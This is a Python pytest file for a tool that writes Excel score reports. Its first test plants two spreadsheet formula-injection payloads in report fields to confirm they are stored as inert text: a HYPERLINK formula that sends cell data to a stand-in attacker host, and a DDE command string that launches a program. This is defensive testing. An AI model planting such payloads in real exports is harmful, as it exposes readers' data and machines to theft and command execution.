"""The score sheet holds what the report holds, and page text stays text."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import openpyxl
import pytest

from reports import xlsx
from reports.model import ReportData
from reports.xlsx import write_xlsx

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _book(report: ReportData, tmp_path: Path) -> Any:
    return openpyxl.load_workbook(write_xlsx(report, tmp_path / "out"))


def _rows(sheet: Any) -> list[dict[str, Any]]:
    head, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rows]


def test_page_text_is_never_a_formula(city: Any, tmp_path: Path) -> None:
    for line in city.results:
        for finding in line["findings"]:
            for field in ("url", "subject", "message", "expected", "found", "advice"):
                finding[field] = FORMULA
    city.units[0] = city.units[0].model_copy(update={"name": "+1+cmd|' /C calc'!A0"})
    book = _book(city.report(), tmp_path)

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    assert any(cell.value == FORMULA for cell in cells)
    assert not [cell for cell in cells if cell.hyperlink and "evil" in (cell.hyperlink.target or "")]


def test_every_sheet_has_a_frozen_head_and_filters(report: ReportData, tmp_path: Path) -> None:
    book = _book(report, tmp_path)

    assert book.sheetnames == [
        "说明", "排名", "得分表", "失分问题", "提示（不扣分）", "待人工确认", "未能检测",
    ]  # fmt: skip
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions


def test_a_lost_point_has_its_reason_and_a_link(report: ReportData, tmp_path: Path) -> None:
    sheet = _book(report, tmp_path)["得分表"]
    lost = [row for row in _rows(sheet) if row["失分"]]
    links = {cell.hyperlink.target for row in sheet.iter_rows() for cell in row if cell.hyperlink}

    assert len(lost) == sum(len(unit.lost) for unit in report.units)
    for row in lost:
        assert row["得分"] + row["失分"] == pytest.approx(row["分值"])
        assert row["原因"] and row["应为"] and row["实为"] and row["怎么改"]
        assert row["所在页面"] in links


def test_the_work_list_says_why_nothing_was_tested(report: ReportData, tmp_path: Path) -> None:
    rows = _rows(_book(report, tmp_path)["未能检测"])
    unread = [check for unit in report.units for check in unit.checks if check.verdict == "unknown"]

    assert len([row for row in rows if row["类别"].endswith("未能检测")]) == len(unread)
    assert {"未登记门户网址", "网站防护拦截"} <= {row["为什么没有测到"] for row in rows}
    assert {"需报送材料", "需外部数据", "需人工评"} <= {row["类别"] for row in rows}


def test_a_unit_under_the_gate_has_no_score_in_the_ranking(report: ReportData, tmp_path: Path) -> None:
    rows = {row["单位"]: row for row in _rows(_book(report, tmp_path)["排名"])}

    assert rows["临海市档案局"]["名次"] == "未评"
    assert rows["临海市档案局"]["得分"] is None
    assert rows["临海市档案局"]["未评原因"] == "未登记门户网址"


def test_the_same_data_gives_the_same_bytes(city: Any, tmp_path: Path) -> None:
    first = write_xlsx(city.report(), tmp_path / "a").read_bytes()
    second = write_xlsx(city.report(), tmp_path / "b").read_bytes()

    assert first == second


def test_links_over_the_limit_of_a_sheet_are_text(
    report: ReportData, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "MAX_LINKS", 3)
    monkeypatch.setattr(xlsx, "MAX_ROWS", 5)
    sheet = _book(report, tmp_path)["失分问题"]

    assert len([cell for row in sheet.iter_rows() for cell in row if cell.hyperlink]) == 3
    assert sheet.max_row == 7
    assert sheet["A7"].value == xlsx.HERE_IT_ENDS
